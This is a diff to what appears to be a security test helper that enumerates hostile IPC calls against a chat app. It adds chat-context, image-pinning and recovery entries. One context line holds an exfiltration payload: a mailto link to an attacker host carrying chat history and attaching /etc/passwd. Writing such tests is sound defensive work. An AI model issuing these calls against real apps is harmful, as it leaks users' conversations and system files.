@@ -76,6 +76,8 @@ function hostileCalls(attacker: string, dump: string, ids: { conversation: strin
     ['chat', 'continue', ids.reply],
     ['chat', 'retry', ids.reply],
     ['chat', 'stop', ids.reply],
+    ['chat', 'context', { conversationId: ids.conversation, ...reply }],
+    ['chat', 'pinImages', ids.user, true],
     ['conversations', 'list', {}],
     ['conversations', 'get', ids.conversation],
     ['conversations', 'older', ids.conversation, ids.reply],
@@ -94,6 +96,7 @@ function hostileCalls(attacker: string, dump: string, ids: { conversation: strin
     ['app', 'openExternal', `mailto:x@${host}?body=${HISTORY}&attach=/etc/passwd`, `x@${host}`],
     ['app', 'copyText', dump.slice(0, 1000)],
     ['app', 'restartToUpdate'],
+    ['app', 'recovery'],
   ];
   return { opening, every };
 }
